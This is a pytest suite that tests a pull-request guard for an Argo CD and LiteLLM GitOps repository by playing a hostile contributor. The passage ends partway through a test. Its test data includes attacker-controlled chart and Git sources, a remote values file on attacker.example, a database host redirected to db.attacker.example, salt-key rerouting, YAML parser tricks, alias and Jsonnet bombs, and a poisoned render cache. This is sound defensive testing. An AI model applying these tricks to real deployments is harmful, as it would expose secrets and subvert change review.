"""The guard as a hostile pull-request author would try it, grouped by route: each case is a
base/head pair built the way a PR builds it (a hand edit of rendered/, an environment change and a
render, or a generator change and a render) with the verdict it must get; then the false positives
that must stay allowed."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Callable

import pytest

from guard_build import ENV, Rendered
from test_guard import SECRET_LITERAL, TWO_APPROVAL_CHANGES, _set, categories, guard, run_cli


# --- approvals ---------------------------------------------------------------------------------

def _gated(tmp_path: Path) -> tuple[int, dict[str, Any]]:
    base = Rendered.minimal()
    return guard(tmp_path, base, base.edit(TWO_APPROVAL_CHANGES["master-key"]))


@pytest.mark.parametrize("roles", [
    {"throwaway1": "read", "throwaway2": "none"},  # two throwaway accounts: approvals count for nothing
    {"bob": "write", "sock": "triage"},
    {"bob": "write", "outsider": None},  # not a collaborator at all: GitHub answers 404
])
def test_approvals_without_write_access_do_not_count(roles: dict[str, Any], tmp_path: Path, github) -> None:
    for login, role in roles.items():
        github.roles[login] = role
        github.review(login)
    code, report = _gated(tmp_path)
    assert code == 1, report
    assert report["approvals"] is None or len(report["approvals"]["valid"]) < 2


@pytest.mark.parametrize("pair", [("admin", "maintain"), ("write", "maintain"), ("admin", "write")])
def test_admin_maintain_and_write_count(pair: tuple[str, str], tmp_path: Path, github) -> None:
    for index, role in enumerate(pair):
        github.roles[f"r{index}"] = role
        github.review(f"r{index}")
    code, report = _gated(tmp_path)
    assert code == 0, report
    assert report["approvals"]["valid"] == ["r0", "r1"]
    assert sum("/collaborators/" in p for p in github.paths) == 2


@pytest.mark.parametrize("answer", [
    {"permission": "write", "user": {"login": "carol"}},  # no role_name
    {"permission": "write", "role_name": "write", "user": {"login": "someone-else"}},
    {"permission": "maintain", "role_name": "maintain", "user": {"login": "carol"}},  # not a legacy value
    {"permission": "write", "role_name": "read", "user": {"login": "carol"}},  # contradictory
    ["write"],
])
def test_unclear_permission_answers_fail_closed(answer: Any, tmp_path: Path, github) -> None:
    github.review("bob")
    github.review("carol")
    github.permission_answers["carol"] = answer
    code, report = _gated(tmp_path)
    assert code == 1, report
    assert report["approvals"]["valid"] == ["bob"]
    assert any(login == "carol" for login in (i["login"] for i in report["approvals"]["ignored"]))


def test_permission_api_failure_refuses(tmp_path: Path, github) -> None:
    github.review("bob")
    github.review("carol")
    github.roles["carol"] = None  # 404 for this one call
    code, report = _gated(tmp_path)
    assert code == 1 and "HTTP 404" in (report["github_error"] or "")


# --- sources: everything that decides what Argo CD applies -----------------------------------

from test_guard_real import _with_config, real, render_all  # noqa: E402,F401  (fixture `real`)

SALT_SOURCE, SOURCE, UNMODELLED = "salt-key-source", "source", "unmodelled"


def _env_edit(edit: Callable[[dict[str, Any]], Any]) -> Rendered:
    return render_all(lambda e: _with_config(e, edit))


# Environment changes, rendered: the source of an Application that can reach the salt key changes.
ENVIRONMENT_SOURCE_CHANGES: dict[str, Callable[[dict[str, Any]], Any]] = {
    "git.targetRevision": lambda c: c.setdefault("git", {}).__setitem__("targetRevision", "attacker-branch"),
    "git.repoURL": lambda c: c.setdefault("git", {}).__setitem__("repoURL", "https://github.com/attacker/fork.git"),
    "components.litellm.chart.repoURL": lambda c: c["components"]["litellm"].setdefault("chart", {}).__setitem__(
        "repoURL", "ghcr.io/attacker"),
    # A pure chart bump is a source change until the guard reads hydrated objects; then it is
    # judged by what the new chart renders.
    "components.litellm.chart.version": lambda c: c["components"]["litellm"].setdefault("chart", {}).__setitem__(
        "version", "1.83.11"),
}


@pytest.mark.parametrize("name", sorted(ENVIRONMENT_SOURCE_CHANGES))
def test_environment_source_changes_are_blocked(name: str, real: Rendered, tmp_path: Path, github) -> None:
    for login in ("r1", "r2", "r3"):
        github.review(login)
    code, report = guard(tmp_path, real, _env_edit(ENVIRONMENT_SOURCE_CHANGES[name]))
    assert code == 1, report
    assert SALT_SOURCE in categories(report)
    assert not any("/reviews" in p for p in github.paths)


def test_helm_parameters_from_a_generator_change_are_blocked(real: Rendered, tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    from generator import argocd
    original = argocd._application

    def with_parameters(env, component, spec_sources, *args):  # type: ignore[no-untyped-def]
        app = original(env, component, spec_sources, *args)
        for source in app["spec"].get("sources", []):
            if "helm" in source:
                source["helm"]["parameters"] = [{"name": "envVars.LITELLM_SALT_KEY", "value": "$(REDIS_PASSWORD)"}]
        return app

    monkeypatch.setattr(argocd, "_application", with_parameters)
    code, report = guard(tmp_path, real, render_all())
    assert code == 1, report
    assert any(f["field"].startswith("spec.sources[0].helm.parameters") and f["policy"] == "blocked" for f in report["findings"])


# Hand edits of rendered/ (the guard reads rendered/ as Argo CD would see it after the merge).
def _app(t: Rendered, component: str) -> dict[str, Any]:
    return t.obj("Application", f"{ENV}-{component}")


def _repo_secret(t: Rendered, chart: str) -> dict[str, Any]:
    return t.obj("Secret", f"repo-{chart}")


HAND_SOURCE_CHANGES: dict[str, tuple[str, Callable[[Rendered], Any]]] = {
    "secret store path": (SALT_SOURCE, lambda t: _set(_app(t, "secret-store")["spec"]["source"], "path",
                                                     f"rendered/{ENV}/manifests/namespaces")),
    "secret store recurse": (SALT_SOURCE, lambda t: _set(_app(t, "secret-store")["spec"]["source"]["directory"], "recurse", True)),
    "dashboards into LiteLLM's namespace": (SALT_SOURCE, lambda t: _set(
        _app(t, "grafana-dashboards")["spec"]["destination"], "namespace", "litellm")),
    # What a project allows limits its Applications; what they apply is judged on its own.
    "stack AppProject source repos": (SOURCE, lambda t: t.obj("AppProject", "litellm")["spec"]["sourceRepos"].append("*")),
    "LiteLLM repository Secret": (SALT_SOURCE, lambda t: _set(_repo_secret(t, "litellm-helm")["stringData"], "url", "ghcr.io/attacker")),
    "root Application path": (SALT_SOURCE, lambda t: _set(t.obj("Application", f"{ENV}-root")["spec"]["source"], "path",
                                                         "rendered/staging/apps")),
    "new Application into LiteLLM's namespace": (SALT_SOURCE, lambda t: t.add("apps/99-extra.yaml", {
        **_app(t, "jaeger"), "metadata": {"name": "extra", "namespace": "argocd"},
        "spec": {**_app(t, "jaeger")["spec"], "destination": {"server": "https://kubernetes.default.svc", "namespace": "litellm"}}})),
    "sync option Replace": (SALT_SOURCE, lambda t: _app(t, "litellm")["spec"]["syncPolicy"]["syncOptions"].append("Replace=true")),
    "Application operation field": (SALT_SOURCE, lambda t: _set(_app(t, "litellm"), "operation", {
        "sync": {"revision": "1.0.0"}})),
    "jaeger chart bump": (SOURCE, lambda t: _set(_app(t, "jaeger")["spec"]["sources"][0], "targetRevision", "9.9.9")),
    "jaeger repository Secret": (SOURCE, lambda t: _set(_repo_secret(t, "jaeger")["stringData"], "url", "https://example.org/charts")),
    "argocd-cm": (SOURCE, lambda t: _set(t.obj("ConfigMap", "argocd-cm")["data"], "resource.exclusions", "- kinds: [Secret]")),
    "argocd-cmd-params-cm sync timeout off": (SOURCE, lambda t: _set(t.obj("ConfigMap", "argocd-cmd-params-cm")["data"],
                                                                      "controller.sync.timeout.seconds", "0")),
}


@pytest.mark.parametrize("name", sorted(HAND_SOURCE_CHANGES))
def test_hand_edited_sources(name: str, real: Rendered, tmp_path: Path, github) -> None:
    category, change = HAND_SOURCE_CHANGES[name]
    head = real.edit(change)
    code, report = guard(tmp_path, real, head)
    assert code == 1 and category in categories(report), report
    if category == SOURCE:
        assert categories(report) == {SOURCE}
        github.review("bob")
        github.review("carol")
        code, report = guard(tmp_path, real, head)
        assert code == 0, report
    else:
        github.review("bob")
        github.review("carol")
        assert guard(tmp_path, real, head)[0] == 1


def test_repository_credentials_are_never_printed(real: Rendered, tmp_path: Path) -> None:
    head = real.edit(lambda t: _repo_secret(t, "jaeger")["stringData"].update(
        {"password": SECRET_LITERAL, "url": "https://deploy:hunter2pw@example.org/charts"}))
    code, out, err = run_cli("guard", "--base", real.write(tmp_path / "b"), "--head", head.write(tmp_path / "h"), "--json")
    assert code == 1
    assert SECRET_LITERAL not in out + err and "hunter2pw" not in out + err
    fields = {f["field"] for f in json.loads(out)["findings"]}
    assert {"stringData.password", "stringData.url"} <= fields


# --- unmodelled content: what Argo CD syncs that the guard cannot read as Argo CD does ------------

_CM = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\n  namespace: litellm\ndata:\n  a: b\n"
_SALT_ES = ("apiVersion: external-secrets.io/v1\nkind: ExternalSecret\nmetadata:\n  name: sneaky\n  namespace: litellm\n"
            "spec:\n  secretStoreRef: {kind: ClusterSecretStore, name: aws-secrets-manager}\n"
            "  target: {name: litellm-secrets, creationPolicy: Merge}\n"
            "  data:\n  - secretKey: LITELLM_SALT_KEY\n    remoteRef: {key: elsewhere}\n")

UNMODELLED_FILES: dict[str, tuple[str, str]] = {
    "source override": ("manifests/secret-store/.argocd-source.yaml", "directory:\n  recurse: true\n"),
    "app source override": (f"manifests/secret-store/.argocd-source-{ENV}-secret-store.yaml", "directory:\n  include: '*'\n"),
    "hidden manifest": ("manifests/secret-store/.sneaky.yaml", _SALT_ES),
    "hidden folder": ("manifests/secret-store/.d/x.yaml", _CM),
    "kustomization": ("manifests/secret-store/kustomization.yaml", "resources: [x.yaml]\n"),
    "Chart.yaml": ("manifests/secret-store/Chart.yaml", "apiVersion: v2\nname: x\nversion: 1.0.0\n"),
    "suffix Chart.yaml": ("manifests/secret-store/MyChart.yaml", "apiVersion: v2\nname: x\nversion: 1.0.0\n"),
    "jsonnet": ("manifests/secret-store/x.jsonnet", "{apiVersion: 'v1', kind: 'ConfigMap'}\n"),
}


@pytest.mark.parametrize("name", sorted(UNMODELLED_FILES))
def test_unmodelled_files_are_refused(name: str, real: Rendered, tmp_path: Path, github) -> None:
    path, text = UNMODELLED_FILES[name]
    head = real.edit(lambda t: t.add(path, text))
    for login in ("r1", "r2"):
        github.review(login)
    code, report = guard(tmp_path, real, head)
    assert code == 1 and UNMODELLED in categories(report), report
    assert any(f["file"] == path for f in report["findings"] if f["category"] == UNMODELLED)


def test_skip_rendering_marker_is_refused(real: Rendered, tmp_path: Path) -> None:
    """Argo CD skips a file holding the marker (and prunes what it held); the guard would read it."""
    base = real.copy()
    rel = next(p for p in base.envs[ENV] if p.startswith("manifests/secret-store/externalsecret-litellm"))
    text = base.write(tmp_path / "b") / "rendered" / ENV / rel
    head = base.copy()
    head.envs[ENV][rel] = "# +argocd:skip-file-rendering\n" + text.read_text()
    code, report = guard(tmp_path, base, head)
    assert code == 1 and UNMODELLED in categories(report)


def test_an_unchanged_unmodelled_file_is_allowed(real: Rendered, tmp_path: Path) -> None:
    base = real.edit(lambda t: t.add("manifests/namespaces/.argocd-source.yaml", "directory:\n  recurse: false\n"))
    head = base.edit(lambda t: _set(t.values("litellm"), "replicaCount", 7))
    code, report = guard(tmp_path, base, head)
    assert code == 0, report


UNMODELLED_SOURCES: dict[str, Callable[[Rendered], Any]] = {
    "plugin": lambda t: _set(_app(t, "grafana-dashboards")["spec"]["source"], "plugin", {"name": "envsubst"}),
    "kustomize": lambda t: _set(_app(t, "grafana-dashboards")["spec"]["source"], "kustomize", {"namePrefix": "x-"}),
    "directory jsonnet": lambda t: _set(_app(t, "grafana-dashboards")["spec"]["source"]["directory"], "jsonnet",
                                        {"extVars": [{"name": "a", "value": "b"}]}),
    "path outside the environment": lambda t: _set(_app(t, "grafana-dashboards")["spec"]["source"], "path", "environments/prod"),
    "remote value file": lambda t: _app(t, "jaeger")["spec"]["sources"][0]["helm"]["valueFiles"].append(
        "https://attacker.example/values.yaml"),
    "value file of another environment": lambda t: _app(t, "jaeger")["spec"]["sources"][0]["helm"]["valueFiles"].append(
        "$values/rendered/dev/values/jaeger.yaml"),
    "Helm chart from a Git path": lambda t: _set(_app(t, "grafana-dashboards")["spec"]["source"], "helm", {"releaseName": "x"}),
}


def test_a_directory_include_is_evaluated_not_skipped(real: Rendered, tmp_path: Path) -> None:
    """include/exclude are globs the guard evaluates as Argo CD does: narrowing what an Application
    applies is a source change (blocked here: the dashboards' folder delivers kinds that reach the
    salt key's chain), never an unmodelled one, and the pin the generator writes is accepted."""
    head = real.edit(lambda t: _set(_app(t, "grafana-dashboards")["spec"]["source"]["directory"], "include", "litellm*"))
    code, report = guard(tmp_path, real, head)
    assert code == 1 and categories(report) == {"salt-key-source"}, report


def test_a_jsonnet_pin_the_generator_would_not_write_is_refused(real: Rendered, tmp_path: Path) -> None:
    """The root's apps/pin-revision.jsonnet is accepted only as the generator's own text for head's
    apps/ files: any other Jsonnet (here: the pin no longer pins) is unmodelled and blocked."""
    def tamper(tree: Any) -> None:
        files = tree.envs[ENV]
        files["apps/pin-revision.jsonnet"] = files["apps/pin-revision.jsonnet"].replace(
            "then source { targetRevision: revision }", "then source")
    code, report = guard(tmp_path, real, real.edit(tamper))
    assert code == 1 and UNMODELLED in categories(report), report


@pytest.mark.parametrize("name", sorted(UNMODELLED_SOURCES))
def test_unmodelled_sources_are_refused(name: str, real: Rendered, tmp_path: Path, github) -> None:
    for login in ("r1", "r2"):
        github.review(login)
    code, report = guard(tmp_path, real, real.edit(UNMODELLED_SOURCES[name]))
    assert code == 1 and UNMODELLED in categories(report), report


def test_items_of_any_list_are_what_argo_cd_applies(tmp_path: Path) -> None:
    """unstructured.IsList: any object with an `items` list is applied as its items, whatever its kind."""
    import yaml
    base = Rendered.minimal()
    head = base.edit(lambda t: t.add("manifests/secret-store/cm.yaml", {
        "apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "innocent", "namespace": "litellm"},
        "items": [yaml.safe_load(_SALT_ES)]}))
    code, report = guard(tmp_path, base, head)
    assert code == 1 and "salt-key" in categories(report), report


# --- YAML differentials: what PyYAML and Kubernetes' go-yaml read differently ----------------------

YAML_DIFFERENTIALS: dict[str, str] = {
    "merge key": "replicaCount: 1\n<<: {replicaCount: 2}\n",  # with an alias it is refused as bad input earlier
    "custom tag": "replicaCount: !attacker 2\n",
    "binary tag": "envVars: {X: !!binary aGVsbG8=}\n",
    "YAML 1.1 single-letter boolean": "envVars: {FLAG: y}\n",
    "0o octal": "replicaCount: 0o17\n",
    "exponent without a dot": "replicaCount: 1e1\n",
    "sexagesimal": "envVars: {TIMEOUT: 1:30}\n",
    "value key": "=: 1\n",
}


@pytest.mark.parametrize("name", sorted(YAML_DIFFERENTIALS))
def test_yaml_differentials_in_values_are_refused_with_the_line(name: str, real: Rendered, tmp_path: Path) -> None:
    base = real.copy()
    head = real.copy()
    path = "values/jaeger.yaml"
    head.envs[ENV][path] = "# values\n" + YAML_DIFFERENTIALS[name]
    code, report = guard(tmp_path, base, head)
    assert code == 1 and UNMODELLED in categories(report), report
    [finding] = [f for f in report["findings"] if f["category"] == UNMODELLED]
    assert finding["file"] == path and "(line " in finding["field"]


def test_yaml_in_cloudformation_keeps_its_short_tags(real: Rendered, tmp_path: Path) -> None:
    head = real.edit(lambda t: _set(t.instance()[1]["Properties"], "UserData", {"Fn::Base64": "#!/bin/bash\necho y\n"}))
    code, report = guard(tmp_path, real, head)
    assert code == 0, report


# --- CloudFormation: replacement as AWS's resource schemas define it ------------------------------

def _instance(t: Rendered) -> dict[str, Any]:
    return t.instance()[1]


BASTION_BY_SCHEMA: dict[str, tuple[bool, Callable[[Rendered], Any]]] = {
    # (needs two approvals, change)
    "root volume size": (True, lambda t: _set(_instance(t)["Properties"]["BlockDeviceMappings"][0]["Ebs"], "VolumeSize", 64)),
    "root volume type": (True, lambda t: _set(_instance(t)["Properties"]["BlockDeviceMappings"][0]["Ebs"], "VolumeType", "gp2")),
    "placement group": (True, lambda t: _set(_instance(t)["Properties"], "PlacementGroupName", "pg")),
    "tenancy host resource group": (True, lambda t: _set(_instance(t)["Properties"], "HostResourceGroupArn", "arn:aws:x")),
    "root volume delete on termination": (False, lambda t: _set(
        _instance(t)["Properties"]["BlockDeviceMappings"][0]["Ebs"], "DeleteOnTermination", False)),
    "deletion policy": (False, lambda t: _set(_instance(t), "DeletionPolicy", "Retain")),
    "update replace policy": (False, lambda t: _set(_instance(t), "UpdateReplacePolicy", "Retain")),
    "tags": (False, lambda t: _instance(t)["Properties"]["Tags"].append({"Key": "team", "Value": "platform"})),
    "instance profile role policy": (False, lambda t: _set(t.resource("BastionRole")["Properties"], "Description", "x")),
}


@pytest.mark.parametrize("name", sorted(BASTION_BY_SCHEMA))
def test_bastion_replacement_comes_from_the_schema(name: str, real: Rendered, tmp_path: Path, github) -> None:
    gated, change = BASTION_BY_SCHEMA[name]
    head = real.edit(change)
    code, report = guard(tmp_path, real, head)
    if not gated:
        assert code == 0, report
        return
    assert code == 1 and categories(report) == {"bastion"}, report
    github.review("bob")
    github.review("carol")
    assert guard(tmp_path, real, head)[0] == 0


def test_replacing_properties_are_the_schemas() -> None:
    from generator.guard import cfnschema
    props = cfnschema.replacing_properties("AWS::EC2::Instance")
    assert props is not None and {"ImageId", "SubnetId", "KeyName", "BlockDeviceMappings"} <= set(props)
    assert "InstanceType" not in props and "UserData" not in props and "Tags" not in props
    assert cfnschema.replacing_properties("AWS::SecretsManager::Secret") == ("Name",)
    assert cfnschema.replacing_properties("AWS::Nothing::Here") is None


# --- never a traceback: malformed objects are bad input, named, in every format -----------------

def _containers(node: Any, path: tuple = ()) -> list[tuple]:
    """Paths of every mapping and list inside `node` (not the root)."""
    found = [path] if path and isinstance(node, (dict, list)) else []
    if isinstance(node, dict):
        for key, value in node.items():
            found += _containers(value, path + (key,))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += _containers(value, path + (index,))
    return found


def _mutations() -> list[tuple[str, int, tuple]]:
    tree = Rendered.minimal()
    cases = []
    for rel, content in sorted(tree.envs[ENV].items()):
        if rel.endswith(".md"):
            continue
        docs = content if isinstance(content, list) and rel.endswith((".yaml", ".yml")) else [content]
        for index, doc in enumerate(docs):
            cases += [(rel, index, path) for path in _containers(doc) if len(path) <= 5]
    return cases


MUTATIONS = _mutations()


@pytest.mark.parametrize("rel,index,path", MUTATIONS, ids=[f"{r}#{i}:{'.'.join(map(str, p))}" for r, i, p in MUTATIONS])
def test_a_field_of_the_wrong_type_never_crashes_the_guard(rel: str, index: int, path: tuple, tmp_path: Path) -> None:
    base = Rendered.minimal()
    head = base.copy()
    content = head.envs[ENV][rel]
    node = content[index] if isinstance(content, list) and rel.endswith((".yaml", ".yml")) else content
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = "not-a-mapping-or-list"
    code, out, err = run_cli("guard", "--base", base.write(tmp_path / "b"), "--head", head.write(tmp_path / "h"), "--json")
    assert code in (0, 1, 2), (code, err)
    assert "Traceback" not in err
    document = json.loads(out)
    assert document["exit_code"] == code
    if code == 2:
        assert "could not read" not in err, err  # every malformed shape is named, not caught blindly
        assert rel.split("/")[-1] in err, err


MALFORMED: dict[str, tuple[str, str, Callable[[Rendered], Any]]] = {
    # (object, field, change)
    "ExternalSecret data entry remoteRef": ("ExternalSecret litellm/litellm-secrets", "spec.data[1].remoteRef",
                                            lambda t: _set(t.entry("LITELLM_SALT_KEY"), "remoteRef", "key")),
    "Application helm": ("Application argocd/prod-litellm", "spec.sources[0].helm",
                         lambda t: _set(t.obj("Application", "prod-litellm")["spec"]["sources"][0], "helm", "x")),
    "Application directory": ("Application argocd/prod-secret-store", "spec.source.directory",
                              lambda t: _set(t.obj("Application", "prod-secret-store")["spec"]["source"], "directory", ["recurse"])),
}


@pytest.mark.parametrize("name", sorted(MALFORMED))
def test_malformed_objects_exit_2_naming_file_object_and_field_in_every_format(name: str, tmp_path: Path) -> None:
    label, field_path, change = MALFORMED[name]
    base = Rendered.minimal()
    b, h = base.write(tmp_path / "b"), base.edit(change).write(tmp_path / "h")
    md = tmp_path / "verdict.md"
    for extra in ((), ("--json",), ("--markdown", md)):
        code, out, err = run_cli("guard", "--base", b, "--head", h, *extra)
        assert code == 2 and field_path in err and label in err and "Traceback" not in err, err
    assert json.loads(run_cli("guard", "--base", b, "--head", h, "--json")[1])["verdict"] == "bad input"
    assert field_path in md.read_text() and "bad input" in md.read_text()


# --- never a secret: redaction by where a value comes from ---------------------------------------

def test_a_no_echo_parameter_is_never_printed(tmp_path: Path) -> None:
    def with_key(t: Rendered, value: str) -> None:
        template = t.instance()[2]
        template["Parameters"]["KeyMaterial"] = {"Type": "String", "NoEcho": True}
        _instance(t)["Properties"]["KeyName"] = {"Ref": "KeyMaterial"}
        t.parameters_file("host")[1].append({"ParameterKey": "KeyMaterial", "ParameterValue": value})
    base = Rendered.minimal().edit(lambda t: with_key(t, "plainwordone"))
    head = Rendered.minimal().edit(lambda t: with_key(t, "plainwordtwo"))
    code, out, err = run_cli("guard", "--base", base.write(tmp_path / "b"), "--head", head.write(tmp_path / "h"), "--json")
    assert code == 1 and "plainword" not in out + err
    [finding] = [f for f in json.loads(out)["findings"] if f["field"].endswith("KeyMaterial.Value")]
    assert finding["before"] == finding["after"] == "(redacted)"


def test_inline_helm_parameters_are_never_printed(tmp_path: Path) -> None:
    base = Rendered.minimal()
    head = base.edit(lambda t: t.obj("Application", "prod-external-secrets")["spec"]["sources"][0]["helm"].__setitem__(
        "parameters", [{"name": "extraEnv", "value": "plain words here"}]))
    code, out, err = run_cli("guard", "--base", base.write(tmp_path / "b"), "--head", head.write(tmp_path / "h"), "--json")
    assert code == 1 and "plain words here" not in out + err


# --- data flow through LiteLLM's values, from a generator change and a render --------------------

GENERATOR_VALUE_CHANGES: dict[str, tuple[str, Callable[[dict[str, Any]], Any]]] = {
    # (category, edit of the values the generator returns)
    "envVars entry reading the salt from another variable": ("salt-key", lambda v: v["envVars"].__setitem__(
        "LITELLM_SALT_KEY", "$(REDIS_PASSWORD)")),
    "config environment_variables": ("salt-key", lambda v: v["proxy_config"].setdefault("environment_variables", {}).__setitem__(
        "LITELLM_SALT_KEY", "os.environ/REDIS_PASSWORD")),
    "extraEnvVars from another Secret": ("salt-key", lambda v: v["extraEnvVars"].append(
        {"name": "LITELLM_SALT_KEY", "valueFrom": {"secretKeyRef": {"name": "other", "key": "k"}}})),
    "master key read from another variable": ("master-key", lambda v: v["proxy_config"]["general_settings"].__setitem__(
        "master_key", "os.environ/REDIS_PASSWORD")),
    "database URL rebuilt from parts": ("database-url", lambda v: v["envVars"].update(
        {"IAM_TOKEN_DB_AUTH": "true", "DATABASE_HOST": "db.attacker.example"})),
}


@pytest.mark.parametrize("name", sorted(GENERATOR_VALUE_CHANGES))
def test_generator_changes_to_litellm_values(name: str, real: Rendered, tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    from generator.components import litellm
    category, edit = GENERATOR_VALUE_CHANGES[name]
    original = litellm.values

    def changed(env):  # type: ignore[no-untyped-def]
        result = original(env)
        edit(result)
        return result

    monkeypatch.setattr(litellm, "values", changed)
    code, report = guard(tmp_path, real, render_all())
    assert code == 1 and category in categories(report), report


# --- false positives: everyday environment changes stay allowed, without asking GitHub -----------

EVERYDAY: dict[str, Callable[[dict[str, Any]], Any]] = {
    "LiteLLM replicas": lambda c: c["components"]["litellm"].__setitem__("replicas", 6),
    "LiteLLM models": lambda c: c["components"]["litellm"]["models"].append(
        {"name": "claude-haiku", "model": "eu.anthropic.claude-3-5-haiku-20241022-v1:0"}),
    "LiteLLM resources": lambda c: c["components"]["litellm"].__setitem__(
        "resources", {"requests": {"cpu": "2", "memory": "4Gi"}, "limits": {"memory": "8Gi"}}),
    "LiteLLM image tag": lambda c: c["components"]["litellm"].__setitem__("imageTag", "main-v1.83.10-stable.1"),
    # A digest beside the tag is judged exactly like the tag (it travels in the same image value).
    "LiteLLM image digest": lambda c: c["components"]["litellm"].__setitem__("imageDigest", "sha256:" + "0f" * 32),
    "database pool limit": lambda c: c["components"]["litellm"].__setitem__("databaseConnectionPoolLimit", 20),
    "Prometheus retention": lambda c: c["components"]["kube-prometheus-stack"].__setitem__("retention", "15d"),
    "Redis replicas": lambda c: c["components"]["redis-ha"].__setitem__("replicas", 5),
    "bastion instance type": lambda c: c["components"]["bastion"].__setitem__("instanceType", "t3.large"),
}


@pytest.mark.parametrize("name", sorted(EVERYDAY))
def test_everyday_environment_changes_are_allowed(name: str, real: Rendered, tmp_path: Path, github) -> None:
    head = _env_edit(EVERYDAY[name])
    assert head.envs[ENV] != real.envs[ENV], "the edit must change the rendered tree"
    code, report = guard(tmp_path, real, head)
    assert code == 0 and report["findings"] == [], report
    assert github.requests == []


def test_documentation_beside_the_bootstrap_is_not_a_source(tmp_path: Path) -> None:
    base = Rendered.minimal()
    base.envs[ENV]["bootstrap/README.md"] = "# apply by hand\n"
    head = base.edit(lambda t: t.envs[ENV].__setitem__("bootstrap/README.md", "# apply by hand, twice\n"))
    code, report = guard(tmp_path, base, head)
    assert code == 0, report


def test_a_mutating_webhook_is_refused(real: Rendered, tmp_path: Path) -> None:
    head = real.edit(lambda t: t.add("manifests/grafana-dashboards/webhook.yaml", {
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": "inject"}, "webhooks": []}))
    code, report = guard(tmp_path, real, head)
    assert code == 1 and "reaches-litellm" in categories(report), report
    assert any(f["object"] == "MutatingWebhookConfiguration inject" for f in report["findings"]), report


def test_an_alias_bomb_is_bad_input_not_a_hang(tmp_path: Path) -> None:
    lines = ['a0: &a0 ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 9)]
    base = Rendered.minimal()
    head = base.copy()
    head.envs[ENV]["values/litellm.yaml"] = "\n".join(lines + ["envVars: {LITELLM_SALT_KEY: *a8}"]) + "\n"
    code, out, err = run_cli("guard", "--base", base.write(tmp_path / "b"), "--head", head.write(tmp_path / "h"), "--json")
    assert code == 2 and "alias" in err and "values/litellm.yaml:2" in err, err


# --- caches the pull request could commit ------------------------------------------------------

def _poison_litellm(cache: Path) -> int:
    """Rewrite every cached LiteLLM Deployment to read the salt key from a literal (what an attacker
    would do the other way round: make a dangerous render look harmless). The number rewritten."""
    count = 0
    for path in (cache / "objects").rglob("*.json"):
        obj = json.loads(path.read_text())
        if obj.get("kind") == "Deployment" and obj["metadata"].get("name") == "litellm":
            obj["spec"]["template"]["spec"]["containers"][0].setdefault("env", []).append(
                {"name": "LITELLM_SALT_KEY", "value": "poisoned"})
            path.write_text(json.dumps(obj))
            count += 1
    return count


def test_a_render_cache_committed_in_the_head_is_never_read(scratch_repo: Path, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """The head commits .cache/hydrated/ holding objects helm never rendered, under the very keys its
    own (harmless) change hydrates to. The guard renders the head itself; naming that folder is refused."""
    import shutil

    from generator.applied import cache as render_cache

    base, head = tmp_path / "base", tmp_path / "head"
    shutil.copytree(scratch_repo, base)
    shutil.copytree(scratch_repo, head)
    values = head / "rendered" / "dev" / "values" / "litellm.yaml"
    values.write_text(values.read_text().replace("replicaCount: 1\n", "replicaCount: 2\n", 1))
    monkeypatch.delenv("LITELLM_GITOPS_HYDRATE_CACHE")
    planted = head / ".cache" / "hydrated"
    assert run_cli("hydrate", "--root", head, "--env", "dev", "--hydrate-cache", planted)[0] == 0
    assert _poison_litellm(planted) >= 1
    monkeypatch.setattr(render_cache, "_MEMO", {})  # what the hydrate run above parsed: a new process would not have it
    code, out, err = run_cli("guard", "--base", base, "--head", head, "--json")
    assert code == 0, out + err
    code, _, err = run_cli("guard", "--base", base, "--head", head, "--hydrate-cache", planted)
    assert code == 2 and "inside the head checkout" in err, err
    monkeypatch.setenv("LITELLM_GITOPS_HYDRATE_CACHE", str(planted))
    code, _, err = run_cli("diff", "--base", base, "--head", head)
    assert code == 2 and "inside the head checkout" in err, err


# --- Jsonnet: the pin's text before any evaluation; every evaluation bounded (issue #19, item 5) ---

_BOMB = "local s(n) = if n == 0 then 'xxxxxxxxxxxxxxxx' else s(n - 1) + s(n - 1);\n[{kind: 'ConfigMap', data: {a: s(40)}}]\n"


def _checkouts(scratch_repo: Path, tmp_path: Path) -> tuple[Path, Path]:
    import shutil

    base, head = tmp_path / "base", tmp_path / "head"
    shutil.copytree(scratch_repo, base)
    shutil.copytree(scratch_repo, head)
    return base, head


def test_a_pin_with_other_text_is_refused_before_any_jsonnet_is_evaluated(scratch_repo: Path, tmp_path: Path,
                                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """The head replaces dev's revision pin with a Jsonnet bomb: the guard compares its text with
    the generator's first, so the head's pin is never evaluated (base's is), and the verdict names it."""
    import time

    from generator.applied import jsonnet

    base, head = _checkouts(scratch_repo, tmp_path)
    (head / "rendered" / "dev" / "apps" / "pin-revision.jsonnet").write_text(_BOMB)
    evaluated: list[Path] = []
    real_evaluate = jsonnet.evaluate

    def spy(full: Path, *args: Any) -> Any:
        evaluated.append(Path(full).resolve())
        return real_evaluate(full, *args)

    monkeypatch.setattr(jsonnet, "evaluate", spy)
    started = time.monotonic()
    code, out, err = run_cli("guard", "--base", base, "--head", head, "--json", "--hydrate-cache", tmp_path / "cache")
    assert code == 1 and time.monotonic() - started < 60, out + err
    report = json.loads(out)
    assert any(f["category"] == UNMODELLED and f["file"] == "apps/pin-revision.jsonnet" for f in report["findings"]), report
    assert (base / "rendered" / "dev" / "apps" / "pin-revision.jsonnet").resolve() in evaluated
    assert not any(p.is_relative_to(head.resolve()) and p.name == "pin-revision.jsonnet" and "dev" in p.parts
                   for p in evaluated), evaluated


def test_a_jsonnet_bomb_a_child_application_reads_stops_the_guard_at_its_limit(scratch_repo: Path, tmp_path: Path) -> None:
    """The pin is untouched, but a child's directory source now includes every file and its folder
    holds a bomb: hydrating the head evaluates it in the bounded child, and the guard refuses it as
    bad input (exit 2, never 70) naming the file and JSONNET_MEMORY_BYTES, within seconds."""
    import time

    base, head = _checkouts(scratch_repo, tmp_path)
